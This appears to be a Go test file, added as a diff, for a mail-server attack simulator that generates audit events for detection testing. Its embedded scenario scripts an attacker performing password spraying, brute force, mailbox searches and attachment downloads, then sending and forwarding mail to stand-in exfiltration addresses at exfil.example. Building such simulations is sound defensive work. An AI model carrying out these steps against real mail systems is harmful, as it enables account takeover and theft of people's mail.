@@ -1,0 +1,189 @@
+package scenarios
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/maildrill/maildrill/mailsim/audit"
+)
+
+// allSteps exercises every step kind against the embedded target.
+const allSteps = `
+id: all-steps
+title: every step kind
+environment: {users: 8, messages: 30, seed: 3, start: 2025-12-11T22:00:00+01:00, duration: 6h}
+actors:
+  - id: intruder
+    kind: attacker
+    source: 203.0.113.50
+    client: {name: TestClient, version: "9"}
+    helo: EVIL-PC
+    credentials: {user: secretariat}
+    pacing: {delay: 3s}
+    steps:
+      - id: spray
+        spray: {users: 4, passwords: [NotIt1!, NotIt2!], delay: 10s}
+      - id: brute
+        brute_force: {user: director, attempts: 5, delay: 2s}
+      - id: login
+        login: {}
+      - id: list
+        list: {}
+      - id: examine
+        examine: INBOX
+      - id: search
+        search: {keywords: [dossier, note]}
+      - id: headers
+        fetch_headers: {from_search: true, limit: 5}
+      - id: attachments
+        download_attachments: {limit: 3}
+      - id: messages
+        download_messages: {limit: 2}
+      - id: others
+        open_mailboxes: {scope: all}
+      - id: mark
+        mark: {mailbox: INBOX, seen: false, limit: 2}
+      - id: move
+        move: {mailbox: INBOX, name: Trash, limit: 1}
+      - id: append
+        append: {mailbox: Drafts, subject: drop, body: "rendez-vous"}
+      - id: idle
+        idle: 2m
+      - id: delete
+        delete: {mailbox: INBOX, limit: 2, expunge: true}
+      - id: wait
+        wait: 30m
+      - id: send
+        send: {to: [drop@exfil.example], attach: downloaded, max_attachments: 2, delay: 10s}
+      - id: forward
+        forward: {mailbox: INBOX, to: [relay@exfil.example], limit: 1}
+      - id: repeat
+        repeat:
+          times: 2
+          steps: [{login: {}}, {list: {}}, logout]
+      - id: foreach
+        foreach: {over: mailboxes, limit: 2, steps: [{fetch_headers: {limit: 1}}]}
+      - logout
+`
+
+func runYAML(t *testing.T, src string) (*Result, []*audit.Event) {
+	t.Helper()
+	sc, err := Parse("test.yaml", []byte(src))
+	require.NoError(t, err)
+	var evBuf, trBuf bytes.Buffer
+	res, err := Run(context.Background(), sc, Options{Events: &evBuf, Truth: &trBuf})
+	require.NoError(t, err)
+	var evs []*audit.Event
+	for _, line := range bytes.Split(bytes.TrimSpace(evBuf.Bytes()), []byte("\n")) {
+		var e audit.Event
+		require.NoError(t, json.Unmarshal(line, &e))
+		evs = append(evs, &e)
+	}
+	require.Equal(t, res.Events, len(evs))
+	require.Equal(t, len(res.Truth), len(bytes.Split(bytes.TrimSpace(trBuf.Bytes()), []byte("\n"))))
+	return res, evs
+}
+
+func count(evs []*audit.Event, f func(*audit.Event) bool) int {
+	n := 0
+	for _, e := range evs {
+		if f(e) {
+			n++
+		}
+	}
+	return n
+}
+
+func TestEveryStepKind(t *testing.T) {
+	res, evs := runYAML(t, allSteps)
+	const ip = "203.0.113.50"
+	from := func(action string, more ...func(*audit.Event) bool) int {
+		return count(evs, func(e *audit.Event) bool {
+			if e.Action != action || e.SourceIP != ip {
+				return false
+			}
+			for _, m := range more {
+				if !m(e) {
+					return false
+				}
+			}
+			return true
+		})
+	}
+	failed := func(e *audit.Event) bool { return e.Outcome == audit.Failure }
+	ok := func(e *audit.Event) bool { return e.Outcome == audit.Success }
+
+	// spray: 4 users × 2 passwords, all wrong; brute force: 4 wrong then the right one.
+	assert.Equal(t, 8+4, from(audit.IMAPLogin, failed), "failed logins")
+	assert.GreaterOrEqual(t, from(audit.IMAPLogin, ok), 1+1+2, "brute force success, login, repeat logins")
+	assert.GreaterOrEqual(t, from(audit.IMAPList), 1+2)
+	assert.GreaterOrEqual(t, from(audit.IMAPExamine), 1)
+	assert.Equal(t, 1, from(audit.IMAPSearch, func(e *audit.Event) bool { return strings.Contains(e.Search, "TEXT") }))
+	assert.Equal(t, 3, from(audit.IMAPFetch, func(e *audit.Event) bool { return e.FileName != "" && regexp.MustCompile(`BODY\.PEEK\[\d`).MatchString(e.FetchItems) && e.Mailbox == "INBOX" }), "attachments")
+	assert.GreaterOrEqual(t, from(audit.IMAPExamine, func(e *audit.Event) bool { return e.MailboxShared != nil && *e.MailboxShared }), 1, "other mailboxes opened")
+	assert.GreaterOrEqual(t, from(audit.IMAPStore), 2, "mark and delete")
+	assert.Equal(t, 1, from(audit.IMAPMove))
+	assert.Equal(t, 1, from(audit.IMAPAppend, ok))
+	assert.Equal(t, 1, from(audit.IMAPIdle))
+	assert.Equal(t, 2, from(audit.IMAPExpunge))
+	assert.GreaterOrEqual(t, from(audit.SMTPDeliver, func(e *audit.Event) bool { return e.EmailDirection == "outbound" && e.DestDomain == "exfil.example" }), 3, "send (2 batches) and forward")
+	assert.Equal(t, 1, from(audit.SMTPData, func(e *audit.Event) bool { return e.AttachmentCount == 1 && e.AttachmentNames[0] == "message.eml" }), "forward")
+	assert.GreaterOrEqual(t, from(audit.IMAPID), 1)
+	for _, e := range evs {
+		if e.SourceIP == ip && e.Action == audit.IMAPID {
+			assert.Equal(t, "TestClient", e.ClientName)
+		}
+		if e.SourceIP == ip && e.Action == audit.SMTPMailFrom {
+			assert.Equal(t, "EVIL-PC", e.SMTPHelo)
+		}
+	}
+	// Time moved: the wait step spans 30 minutes of scenario time.
+	sp := res.Spans["wait"]
+	assert.Equal(t, "30m0s", sp.End.Sub(sp.Start).String())
+	for _, id := range []string{"spray", "brute", "login", "send", "forward", "repeat", "foreach"} {
+		assert.Contains(t, res.Spans, id)
+	}
+	// Ground truth and audit trail agree on the outside deliveries.
+	var sends int
+	for _, tr := range res.Truth {
+		if tr.Action == "smtp.send" || tr.Action == "smtp.forward" {
+			sends++
+		}
+	}
+	assert.Equal(t, from(audit.SMTPDeliver, func(e *audit.Event) bool { return e.EmailDirection == "outbound" }), sends)
+}
+
+// The same scenario in virtual mode yields the same ground truth and the
+// same audit event sequence.
+func TestDeterminism(t *testing.T) {
+	src := strings.Replace(allSteps, "id: all-steps", "id: determinism", 1)
+	src = strings.Replace(src, "actors:", "actors:\n  - id: staff\n    kind: staff\n    staff: {count: 4, phones: 1, late: 1}", 1)
+	src = strings.Replace(src, "start: 2025-12-11T22:00:00+01:00, duration: 6h", "start: 2025-12-11T07:00:00+01:00, duration: 20h", 1)
+	src = strings.Replace(src, "      - id: spray\n", "      - id: spray\n        at: \"22:00\"\n", 1)
+	var runs [2][2]string
+	for i := range runs {
+		sc, err := Parse("d.yaml", []byte(src))
+		require.NoError(t, err)
+		var ev, tr bytes.Buffer
+		_, err = Run(context.Background(), sc, Options{Events: &ev, Truth: &tr})
+		require.NoError(t, err)
+		runs[i] = [2]string{ev.String(), tr.String()}
+	}
+	require.Greater(t, len(runs[0][0]), 1000)
+	if os.Getenv("MD_DEBUG") != "" {
+		os.WriteFile("/tmp/det0.jsonl", []byte(runs[0][0]), 0o644)
+		os.WriteFile("/tmp/det1.jsonl", []byte(runs[1][0]), 0o644)
+		os.WriteFile("/tmp/tr0.jsonl", []byte(runs[0][1]), 0o644)
+		os.WriteFile("/tmp/tr1.jsonl", []byte(runs[1][1]), 0o644)
+	}
+	assert.True(t, runs[0][0] == runs[1][0], "audit event sequences differ")
+	assert.True(t, runs[0][1] == runs[1][1], "ground truth differs")
+}
